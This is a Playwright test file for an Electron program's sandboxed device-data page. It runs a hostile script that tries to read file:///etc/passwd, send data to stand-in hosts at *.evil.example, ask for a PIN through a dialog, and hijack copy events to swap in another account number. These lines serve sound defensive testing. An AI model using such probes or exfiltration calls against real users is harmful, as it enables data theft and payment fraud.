// Attacker: the vendor's script, or whoever replaced it. Way: whatever a page can try: the bridge, Node, other hosts, WebRTC,
// frames, workers, storage, windows, a second message, time and memory without end. Impact: a PIN or a token leaves, others are
// told who is here, a change hangs, what was copied becomes something else, the program speaks. docs/threat-model.md#device-data-page
import { mkdir, writeFile } from "node:fs/promises";
import { type AddressInfo, createServer } from "node:net";
import path from "node:path";
import type { ElectronApplication } from "playwright";
import { root } from "../../build/paths.mjs";
import { expect, test } from "../e2e/fixtures.ts";
import { rare } from "../long-form.ts";

const chunk = path.join(root, "out/main/device-data-page.js");
const consentId = "17a7389adaf83145770d8e6c00a398ddcon";

/** One for all scripts of a test: the program, too, has one. */
const scripts = (folder: string) => path.join(folder, "scripts");

interface Collected {
  readonly text: string | null;
  readonly ms: number;
  /** Pages of the program that are left, the window's among them. */
  readonly pages: number;
  /** Whether the script's process still runs. */
  readonly isAlive: boolean;
}

/**
 * Puts a script into a folder and has the built page run it.
 * @param how how long it may live, if not as usual: a busy machine gives it less of its five seconds; when it is to be stopped
 */
async function collect(
  app: ElectronApplication,
  folder: string,
  script: string,
  how: { readonly livesMs?: number; readonly stopAfterMs?: number } = { livesMs: 60_000 },
) {
  await mkdir(folder, { recursive: true });
  await writeFile(path.join(folder, "collect.js"), script);
  return app.evaluate(
    async ({ app: program, webContents }, [file, place, consent, { livesMs, stopAfterMs }]) => {
      const { constants, runInThisContext } = process.getBuiltinModule("vm");
      const importModuleDynamically = constants.USE_MAIN_CONTEXT_DEFAULT_LOADER;
      const { createDeviceDataPage } = await runInThisContext(`import("file://${file}")`, { importModuleDynamically });
      const profile = { folder: place, domains: ["vendor.example"] };
      const page = createDeviceDataPage(profile, livesMs && { livesMs, memoryKiB: 512 * 1024 });
      let pid = 0;
      program.once("web-contents-created", (_event, contents) => {
        contents.once("did-navigate", () => {
          pid = contents.getOSProcessId();
          if (stopAfterMs !== undefined) setTimeout(page.stop, stopAfterMs);
        });
      });
      const begun = performance.now();
      const text = await page.collect(consent);
      const ms = performance.now() - begun;
      const isThere = () => pid !== 0 && program.getAppMetrics().some((one) => one.pid === pid);
      for (let left = 100; left > 0 && isThere(); left--) await new Promise((resolve) => setTimeout(resolve, 100));
      return { text, ms, pages: webContents.getAllWebContents().length, isAlive: isThere() };
    },
    [chunk, folder, consentId, how] as const,
  ) as Promise<Collected>;
}

/** Listens for TLS, and notes which names are asked for: each connection begins with the name in clear (RFC 6066 §3). */
async function listenForNames() {
  const seen = new Set<string>();
  const server = createServer((socket) => {
    socket.on("error", () => undefined);
    socket.once("data", (hello) => {
      for (const [name] of hello.toString("latin1").matchAll(/[a-z-]+\.(?:vendor|evil)\.example/g)) seen.add(name);
      socket.destroy();
    });
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const { port } = server.address() as AddressInfo;
  const rules = ["vendor", "evil"].map((name) => `MAP *.${name}.example 127.0.0.1:${port}`).join(",");
  return { seen, args: [`--host-resolver-rules=${rules}`], close: () => void server.close() };
}

/** What the script gained goes out in its one message. */
const attempts = `(async () => {
  const gained = [];
  const attempt = async (name, act) => {
    const silence = new Promise((resolve) => setTimeout(resolve, 1000, null));
    const end = await Promise.race([(async () => act())().then((value) => value ?? null, () => null), silence]);
    if (end !== null && end !== false) gained.push(name);
  };
  const names = ["require", "process", "module", "bridge", "electron", "ipcRenderer", "RTCPeerConnection", "WebTransport"];
  for (const name of names) await attempt(name, () => typeof globalThis[name] !== "undefined");
  await attempt("frame", () => document.body.appendChild(document.createElement("iframe")).contentWindow && "made");
  await attempt("markup", () => (document.body.innerHTML = "<iframe></iframe>"));
  await attempt("window", () => window.open("https://window.evil.example/"));
  await attempt("blank window", () => window.open("about:blank"));
  await attempt("worker", () => new Promise((resolve) => {
    const worker = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"])));
    worker.onmessage = () => resolve("ran");
    worker.onerror = () => resolve(null);
  }));
  await attempt("shared worker", () => new SharedWorker("collect.js") && null);
  await attempt("service worker", () => navigator.serviceWorker.register("collect.js"));
  await attempt("eval", () => (0, eval)("1"));
  await attempt("storage", () => localStorage.setItem("a", "b") ?? "kept");
  await attempt("session storage", () => sessionStorage.setItem("a", "b") ?? "kept");
  await attempt("database", () => new Promise((resolve) => {
    const asked = indexedDB.open("a");
    asked.onsuccess = () => resolve("open");
    asked.onerror = () => resolve(null);
  }));
  await attempt("caches", () => caches.open("a"));
  await attempt("cookie", () => (document.cookie = "a=b", document.cookie !== ""));
  await attempt("the window's page", () => fetch("app://pin/index.html").then(({ status }) => status));
  await attempt("file", () => fetch("file:///etc/passwd").then(({ status }) => status));
  await attempt("plain http", () => fetch("http://plain.vendor.example/", { mode: "no-cors" }).then(() => "sent"));
  await attempt("camera", () => navigator.mediaDevices.getUserMedia({ video: true }));
  await attempt("place", () => new Promise((yes, no) => navigator.geolocation.getCurrentPosition(yes, no)));
  await attempt("notice", async () => (await Notification.requestPermission()) === "granted");
  await attempt("clipboard", () => navigator.clipboard.readText());
  await attempt("file picker", () => window.showOpenFilePicker());
  await attempt("dialog", () => prompt("Your PIN, please"));
  await attempt("number at the icon", () => navigator.setAppBadge(7).then(() => "set"));
  await attempt("sound", () => new Promise((resolve) => {
    const context = new AudioContext();
    context.onstatechange = () => resolve(context.state);
  }));
  await attempt("copy", () => {
    addEventListener("copy", (event) => {
      event.clipboardData.setData("text/plain", "another account's number");
      event.preventDefault();
    });
    return document.execCommand("copy");
  });
  // Nothing of this answers; who listens sees whether it arrives.
  const evil = (name) => "https://" + name + ".evil.example/";
  const image = new Image();
  image.src = evil("image");
  fetch(evil("fetch"), { mode: "no-cors" }).catch(() => undefined);
  navigator.sendBeacon(evil("beacon"), "x");
  try { new WebSocket("wss://socket.evil.example/"); } catch {}
  try { new EventSource(evil("events")); } catch {}
  for (const rel of ["preconnect", "prefetch", "dns-prefetch", "stylesheet", "preload", "modulepreload"]) {
    document.head.append(Object.assign(document.createElement("link"), { rel, href: evil(rel), as: "script" }));
  }
  try { document.head.append(Object.assign(document.createElement("script"), { src: evil("script") })); } catch {}
  const link = Object.assign(document.createElement("a"), { href: evil("download"), download: "x" });
  document.body.append(link);
  link.click();
  const form = Object.assign(document.createElement("form"), { action: evil("form"), method: "post" });
  document.body.append(form);
  try { form.submit(); } catch {}
  location.href = evil("navigation");
  const allowed = fetch("https://probe.vendor.example/", { mode: "no-cors" }).catch(() => undefined);
  await Promise.race([allowed, new Promise((resolve) => setTimeout(resolve, 5000))]);
  await new Promise((resolve) => setTimeout(resolve, 300));
  handOverDeviceData("gained:" + gained.join(",").replaceAll(" ", "-") + ";" + location.hash.slice(1));
})()`;

test("a hostile script reaches the partner's domains and nothing else, and has one message", async ({
  launch,
  folder,
}) => {
  const names = await listenForNames();
  const { app } = await launch({ args: names.args });
  const before = await app.evaluate(({ webContents, clipboard }) => {
    clipboard.writeText("copied elsewhere");
    return webContents.getAllWebContents().length;
  });

  const hostile = await collect(app, scripts(folder), attempts);
  expect.soft(hostile).toMatchObject({ text: `gained:;${consentId}`, pages: before, isAlive: false });
  expect.soft([...names.seen]).toEqual(["probe.vendor.example"]);
  expect.soft(await app.evaluate(({ clipboard }) => clipboard.readText())).toBe("copied elsewhere");
  names.close();

  const text = `Web;${consentId};${"a".repeat(16)};${"b/+=".repeat(700)}`;
  const valid = await collect(app, scripts(folder), `handOverDeviceData("${text}"); handOverDeviceData("Web;second")`);
  expect(valid).toMatchObject({ text, pages: before, isAlive: false });
  for (const [name, script] of Object.entries({
    "very huge": `handOverDeviceData("x".repeat(200 << 20))`,
    "no text": "handOverDeviceData({ toString: () => 'Web;x' })",
    "first another": `handOverDeviceData(7); handOverDeviceData("Web;second")`,
    closed: "window.close()",
  })) {
    await app.evaluate(({ session }) => {
      const { cookies } = session.fromPartition("device-data");
      return cookies.set({ url: "https://vendor.example/", name: "who", value: "was-here" });
    });
    const ended = await collect(app, scripts(folder), script);
    expect(ended, name).toMatchObject({ text: null, pages: before, isAlive: false });
    const left = () => app.evaluate(({ session }) => session.fromPartition("device-data").cookies.get({}));
    await expect.poll(left, `what is left for the next one: ${name}`).toEqual([]);
  }
});

test("a script that never ends has five seconds, and none once it is stopped", async ({ launch, folder }) => {
  const { app } = await launch();
  const before = await app.evaluate(({ webContents }) => webContents.getAllWebContents().length);
  const forever = "for (;;) {}";
  const stopped = await collect(app, scripts(folder), forever, { livesMs: 60_000, stopAfterMs: 300 });
  expect(stopped).toMatchObject({ text: null, pages: before, isAlive: false });
  expect(stopped.ms).toBeLessThan(40_000);
  const late = await collect(
    app,
    scripts(folder),
    `addEventListener("beforeunload", (event) => event.preventDefault()); setTimeout(() => { ${forever} }, 100)`,
    {},
  );
  expect(late).toMatchObject({ text: null, pages: before, isAlive: false });
  expect(late.ms).toBeGreaterThan(4900);
});

test("a script that takes a gigabyte of memory is ended before it has it", rare, async ({ launch, folder }) => {
  const { app } = await launch();
  const greedy =
    "const all = []; const more = () => { all.push(new Uint8Array(64 << 20).fill(1)); if (all.length < 16) setTimeout(more, 20); }; more()";
  const ended = await collect(app, scripts(folder), greedy);
  expect(ended).toMatchObject({ text: null, isAlive: false });
  expect(ended.ms).toBeLessThan(50_000);
});
